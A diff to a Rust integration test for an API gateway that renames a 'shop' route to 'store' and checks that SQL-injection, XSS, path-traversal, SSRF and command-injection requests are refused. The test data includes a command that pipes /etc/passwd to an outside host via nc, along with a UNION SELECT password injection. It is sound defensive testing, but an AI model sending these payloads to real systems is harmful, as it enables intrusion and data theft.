@@ -8,27 +8,27 @@ use crate::house::{Ask, House, Plan};
 const POLICIES: &str = r#"
 apiVersion: secure.platformspec.io/v1alpha1
 kind: APIAccessPolicy
-metadata: {name: shop}
+metadata: {name: store}
 spec:
-  targetRefs: [{kind: Route, name: shop}]
+  targetRefs: [{kind: Route, name: store}]
   authentication: {providers: [sso], require: AnyOf}
   allow:
-    - {methods: [GET], paths: [/shop/**]}
-    - {methods: [POST], paths: [/shop/**], contentTypes: [application/json, application/x-www-form-urlencoded, multipart/form-data, text/plain]}
+    - {methods: [GET], paths: [/store/**]}
+    - {methods: [POST], paths: [/store/**], contentTypes: [application/json, application/x-www-form-urlencoded, multipart/form-data, text/plain]}
 ---
 apiVersion: secure.platformspec.io/v1alpha1
 kind: AccessControlPolicy
-metadata: {name: shop}
+metadata: {name: store}
 spec:
-  targetRefs: [{kind: Route, name: shop}]
+  targetRefs: [{kind: Route, name: store}]
   rules:
     - {name: staff, effect: Permit, principals: [User], actions: [read, create], when: 'principal.groups.contains("staff")'}
 ---
 apiVersion: secure.platformspec.io/v1alpha1
 kind: RuntimeSecurityPolicy
-metadata: {name: shop}
+metadata: {name: store}
 spec:
-  targetRefs: [{kind: Route, name: shop}]
+  targetRefs: [{kind: Route, name: store}]
   detectors:
     - {name: sql, type: SqlInjection, parts: [HttpQuery, HttpHeader, HttpBody], action: Block}
     - {name: script, type: Xss, parts: [HttpQuery, HttpHeader, HttpBody], action: Block}
@@ -40,9 +40,9 @@ spec:
 ---
 apiVersion: secure.platformspec.io/v1alpha1
 kind: DataProtectionPolicy
-metadata: {name: shop}
+metadata: {name: store}
 spec:
-  targetRefs: [{kind: Route, name: shop}]
+  targetRefs: [{kind: Route, name: store}]
   detectors:
     - {name: card, type: Builtin, id: payment-card, class: Restricted}
     - {name: project, type: Dictionary, valuesFrom: "file:words.txt", class: Internal}
@@ -53,7 +53,7 @@ spec:
 
 fn plan() -> Plan {
     let route = "  - {name: socket,";
-    let added = "  - {name: shop, match: {pathPrefix: /shop}, upstream: plain, dialect: http, labels: {tenant: acme}}\n  - {name: socket,";
+    let added = "  - {name: store, match: {pathPrefix: /store}, upstream: plain, dialect: http, labels: {tenant: acme}}\n  - {name: socket,";
     House::plan()
         .with("postern.yaml", route, added)
         .also(POLICIES)
@@ -65,22 +65,23 @@ fn multipart(parts: &[(&str, &str)]) -> Ask {
         format!("--b\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n")
     };
     let body: String = parts.iter().map(part).collect();
-    Ask::post("/shop/x", "multipart/form-data; boundary=b", format!("{body}--b--\r\n"))
+    Ask::post("/store/x", "multipart/form-data; boundary=b", format!("{body}--b--\r\n"))
 }
 
 #[tokio::test]
 async fn attacks_in_any_place_of_a_request_never_reach_the_upstream() {
     let house = plan().start().await;
-    let form = |body: &str| Ask::post("/shop/x", "application/x-www-form-urlencoded", body);
-    let json = |text: &str| Ask::json("/shop/x", &json!({"filter": {"name": [text]}}));
+    let form = |body: &str| Ask::post("/store/x", "application/x-www-form-urlencoded", body);
+    let json = |text: &str| Ask::json("/store/x", &json!({"filter": {"name": [text]}}));
     let innocent = [
-        Ask::get("/shop/x?name=O%27Brien&sort=-price"),
-        Ask::get("/shop/x").header("user-agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko)"),
-        Ask::get("/shop/x").header("cookie", "session=abc; theme=dark"),
+        Ask::get("/store/x?name=O%27Brien&sort=-price"),
+        Ask::get("/store/x")
+            .header("user-agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko)"),
+        Ask::get("/store/x").header("cookie", "session=abc; theme=dark"),
         json("Select the best pens from the list; drop the others"),
         form("comment=I+like+it+%26+it%27s+cheap"),
         multipart(&[("a", "1 < 2 and 3 > 2"), ("b", "")]),
-        Ask::post("/shop/x", "text/plain", "the beta of it"),
+        Ask::post("/store/x", "text/plain", "the beta of it"),
     ];
     let count = innocent.len();
     for (number, ask) in innocent.into_iter().enumerate() {
@@ -90,42 +91,65 @@ async fn attacks_in_any_place_of_a_request_never_reach_the_upstream() {
     assert_eq!(house.plain.count(), count);
 
     for (case, guard, ask) in [
-        ("SQL in the query", "runtime/sql", Ask::get("/shop/x?id=1%27%20OR%20%271%27=%271")),
-        ("SQL in a name of the query", "runtime/sql", Ask::get("/shop/x?1%27%20OR%20%271%27%3D%271=a")),
-        ("SQL escaped twice", "runtime/sql", Ask::get("/shop/x?id=1%2527%2520OR%2520%25271%2527%253D%25271")),
+        ("SQL in the query", "runtime/sql", Ask::get("/store/x?id=1%27%20OR%20%271%27=%271")),
+        ("SQL in a name of the query", "runtime/sql", Ask::get("/store/x?1%27%20OR%20%271%27%3D%271=a")),
+        ("SQL escaped twice", "runtime/sql", Ask::get("/store/x?id=1%2527%2520OR%2520%25271%2527%253D%25271")),
         ("SQL in JSON", "runtime/sql", json("1' UNION SELECT password FROM users--")),
         ("SQL in a form", "runtime/sql", form("a=b&id=1%27+or+1%3D1--")),
         ("SQL in a part of a form", "runtime/sql", multipart(&[("a", "b"), ("id", "1' or '1'='1")])),
         ("SQL in the name of a part", "runtime/sql", multipart(&[("1' or '1'='1", "b")])),
-        ("SQL in a header", "runtime/sql", Ask::get("/shop/x").header("x-id", "1' or '1'='1")),
-        ("SQL in a cookie", "runtime/sql", Ask::get("/shop/x").header("cookie", "a=b; id=1' or '1'='1")),
-        ("a script in the query", "runtime/script", Ask::get("/shop/x?q=%3Cscript%3Ealert(1)%3C/script%3E")),
-        ("a script in text", "runtime/script", Ask::post("/shop/x", "text/plain", "<img src=x onerror=alert(1)>")),
-        ("a script in a header", "runtime/script", Ask::get("/shop/x").header("referer", "\"><script>alert(1)</script>")),
+        ("SQL in a header", "runtime/sql", Ask::get("/store/x").header("x-id", "1' or '1'='1")),
+        ("SQL in a cookie", "runtime/sql", Ask::get("/store/x").header("cookie", "a=b; id=1' or '1'='1")),
+        ("a script in the query", "runtime/script", Ask::get("/store/x?q=%3Cscript%3Ealert(1)%3C/script%3E")),
+        ("a script in text", "runtime/script", Ask::post("/store/x", "text/plain", "<img src=x onerror=alert(1)>")),
+        (
+            "a script in a header",
+            "runtime/script",
+            Ask::get("/store/x").header("referer", "\"><script>alert(1)</script>"),
+        ),
         ("a command", "runtime/command", json("x; cat /etc/passwd | nc 198.51.100.7 80")),
-        ("a path", "runtime/path", Ask::get("/shop/x?file=..%2f..%2f..%2fetc%2fpasswd")),
-        ("a place inside, in the query", "", Ask::get("/shop/x?url=http://169.254.169.254/latest/")),
-        ("a pattern in a header", "runtime/debug", Ask::get("/shop/x").header("x-note", "X-DEBUG-1234")),
-        ("a word in a header", "", Ask::get("/shop/x").header("x-note", "on PROJECT nightingale")),
+        ("a path", "runtime/path", Ask::get("/store/x?file=..%2f..%2f..%2fetc%2fpasswd")),
+        ("a place inside, in the query", "", Ask::get("/store/x?url=http://169.254.169.254/latest/")),
+        ("a pattern in a header", "runtime/debug", Ask::get("/store/x").header("x-note", "X-DEBUG-1234")),
+        ("a word in a header", "", Ask::get("/store/x").header("x-note", "on PROJECT nightingale")),
     ] {
         for h2 in [false, true] {
             let reply = house.call(&house.who.mia, ask.clone().over(h2)).await;
-            assert_eq!((reply.status, reply.json()["type"].as_str()), (403, Some("urn:postern:refusal:content_refused")), "{case}: {}", reply.body);
+            assert_eq!(
+                (reply.status, reply.json()["type"].as_str()),
+                (403, Some("urn:postern:refusal:content_refused")),
+                "{case}: {}",
+                reply.body
+            );
             if !guard.is_empty() {
                 assert!(!reply.body.contains(guard), "{case}: the caller is not told which guard it was");
             }
         }
     }
     for (case, ask) in [
-        ("a part that is an image", Ask::post("/shop/x", "multipart/form-data; boundary=b", "--b\r\nContent-Disposition: form-data; name=\"a\"\r\nContent-Type: image/png\r\n\r\nx\r\n--b--\r\n")),
-        ("a form with a preamble", Ask::post("/shop/x", "multipart/form-data; boundary=b", "x\r\n--b\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nx\r\n--b--\r\n")),
+        (
+            "a part that is an image",
+            Ask::post(
+                "/store/x",
+                "multipart/form-data; boundary=b",
+                "--b\r\nContent-Disposition: form-data; name=\"a\"\r\nContent-Type: image/png\r\n\r\nx\r\n--b--\r\n",
+            ),
+        ),
+        (
+            "a form with a preamble",
+            Ask::post(
+                "/store/x",
+                "multipart/form-data; boundary=b",
+                "x\r\n--b\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nx\r\n--b--\r\n",
+            ),
+        ),
     ] {
         let reply = house.call(&house.who.mia, ask).await;
         assert!([400, 415].contains(&reply.status), "{case}: {}", reply.status);
     }
     assert_eq!(house.plain.count(), count, "nothing of what was refused was sent");
 
-    let promised = house.promised("shop", Direction::Request, false);
+    let promised = house.promised("store", Direction::Request, false);
     let records = house.stop().await;
     for record in records.requests().into_iter().filter(|record| record.decision() == "allow") {
         assert_eq!(record.request_guards(), promised, "what ran is what the matrix says");
@@ -152,7 +176,12 @@ async fn what_is_found_in_a_part_of_a_form_is_cut_out_there_and_the_rest_stays()
     let seen = house.plain.sole();
     let body = String::from_utf8(seen.body.clone()).unwrap();
     assert_eq!(seen.header("content-length"), [body.len().to_string()]);
-    for wanted in ["\r\n\r\none\r\n", "my card is **** **** **** 1111\r\n", "\r\n\r\n[redacted:inside]\r\n", "on [redacted:project], soon\r\n"] {
+    for wanted in [
+        "\r\n\r\none\r\n",
+        "my card is **** **** **** 1111\r\n",
+        "\r\n\r\n[redacted:inside]\r\n",
+        "on [redacted:project], soon\r\n",
+    ] {
         assert!(body.contains(wanted), "{body}");
     }
     house.stop().await;
